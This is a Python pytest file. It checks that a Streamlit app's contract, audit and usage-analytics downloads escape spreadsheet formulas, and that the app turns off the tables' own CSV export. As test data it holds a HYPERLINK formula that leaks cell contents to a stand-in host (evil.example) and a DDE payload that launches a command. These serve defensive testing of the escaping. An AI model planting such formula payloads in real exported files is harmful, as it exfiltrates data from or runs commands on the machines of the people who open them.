"""The pages' downloads through AppTest: the Contracts page's CSV and XLSX, the Admin page's
audit CSV and the Analytics page's events CSV write formula-like text as text; the app turns
off the tables' own CSV download, which would not."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from streamlit import config
from streamlit.delta_generator import DeltaGenerator

from knowledge.core.settings import load_settings
from knowledge.desk.ingestion import Upload
from knowledge.desk.root import Desk
from knowledge.usage.events import TokenCount, UsageEvent
from tests.contract_samples import contract_pdf
from tests.pages.conftest import Configure, open_page
from tests.pages.support import free_port

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """What the pages offer for download, by file name (data made on click is made here)."""
    import streamlit as st

    offered: dict[str, Any] = {}

    def keep(label: str, data: Any = None, file_name: str | None = None, *_: Any, **__: Any):
        offered[str(file_name)] = data() if callable(data) else data

    def recording(original: Callable[..., Any], bound: bool) -> Callable[..., Any]:
        def download_button(*args: Any, **kwargs: Any) -> Any:
            keep(*(args[1:] if bound else args), **kwargs)
            return original(*args, **kwargs)

        return download_button

    monkeypatch.setattr(st, "download_button", recording(st.download_button, False))
    monkeypatch.setattr(
        DeltaGenerator, "download_button", recording(DeltaGenerator.download_button, True)
    )
    return offered


def rows_of(data: bytes, encoding: str = "utf-8") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(encoding), newline="")))


def desk_at(data_dir: Path) -> Desk:
    return Desk(load_settings(data_dir=data_dir, model_backend="ollama"))


def test_contracts_exports_escape_formulas(
    tmp_path: Path, configure: Configure, downloads: dict[str, Any]
):
    data_dir = tmp_path / "data"
    desk = desk_at(data_dir)
    desk.ingest([Upload("acme.pdf", contract_pdf(law="New York"))], "Contracts")
    law = next(r for r in desk.contracts.records() if r.category == "Governing Law")
    desk.contracts.review(law.id, "correct", "@SUM(A1)", value="-2+3", note=HYPERLINK)
    configure(data_dir, f"http://127.0.0.1:{free_port()}")
    at = open_page("pages/contracts.py").run()
    assert not at.exception

    [row] = [r for r in rows_of(downloads["clauses.csv"], "utf-8-sig") if r["note"]]
    assert (row["note"], row["value"], row["reviewer"]) == ("'" + HYPERLINK, "'-2+3", "'@SUM(A1)")
    assert row["page"] == str(law.page)
    sheet = load_workbook(io.BytesIO(downloads["clauses.xlsx"])).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + HYPERLINK in {cell.value for cell in cells}
    assert law.page in {cell.value for cell in cells if cell.column_letter == "E"}


def test_audit_export_escapes_formulas(
    tmp_path: Path, configure: Configure, downloads: dict[str, Any]
):
    data_dir = tmp_path / "data"
    desk_at(data_dir).audit.record("=cmd|' /C calc'!A0", "sign_in_failed", "+1", outcome="failed")
    configure(data_dir, f"http://127.0.0.1:{free_port()}")
    at = open_page("pages/admin.py").run()
    assert not at.exception

    rows = rows_of(downloads["kdesk-audit.csv"])
    assert ("'=cmd|' /C calc'!A0", "'+1") in {(r["actor"], r["target"]) for r in rows}


def test_usage_export_escapes_formulas_and_keeps_numbers(
    tmp_path: Path, configure: Configure, downloads: dict[str, Any]
):
    data_dir = tmp_path / "data"
    asked = UsageEvent(
        HYPERLINK, "@sum", "employee", "chat", "-m", abstained=False, total_ms=3.0,
        retrieval_ms=-1.5, collections=("HR",), tokens=TokenCount(12, 3),
    )  # fmt: skip
    desk_at(data_dir).usage.record(asked)
    configure(data_dir, f"http://127.0.0.1:{free_port()}")
    at = open_page("pages/analytics.py").run()
    assert not at.exception

    [(name, data)] = downloads.items()
    assert name.startswith("kdesk-usage-")
    [row] = rows_of(data)
    assert (row["question"], row["user"]) == ("'" + HYPERLINK, "'@sum")
    assert (row["model"], row["tokens_in"], row["retrieval_ms"]) == ("'-m", "12", "-1.5")


def test_the_app_turns_off_the_tables_own_csv_download(tmp_path: Path, configure: Configure):
    config.set_option("client.disableDataExport", False)
    configure(tmp_path / "data", f"http://127.0.0.1:{free_port()}")
    at = open_page("app.py").run()
    assert not at.exception
    assert config.get_option("client.disableDataExport") is True
